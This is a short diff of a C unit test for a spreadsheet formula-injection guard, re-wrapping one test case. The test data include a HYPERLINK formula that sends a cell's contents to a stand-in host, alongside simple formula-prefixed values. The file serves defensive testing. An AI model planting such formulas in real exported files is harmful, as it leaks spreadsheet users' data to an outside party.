@@ -584,7 +584,8 @@ static void formula_guard(void **state)
 	static const struct {
 		const char *value, *written;
 	} cases[] = {
-	    {"=HYPERLINK(\"http://x/?d=\"&B2,\"点击\")", "\"'=HYPERLINK(\"\"http://x/?d=\"\"&B2,\"\"点击\"\")\""},
+	    {"=HYPERLINK(\"http://x/?d=\"&B2,\"点击\")",
+	     "\"'=HYPERLINK(\"\"http://x/?d=\"\"&B2,\"\"点击\"\")\""},
 	    {"+1", "'+1"},
 	    {"-1", "'-1"},
 	    {"@SUM(A1)", "'@SUM(A1)"},
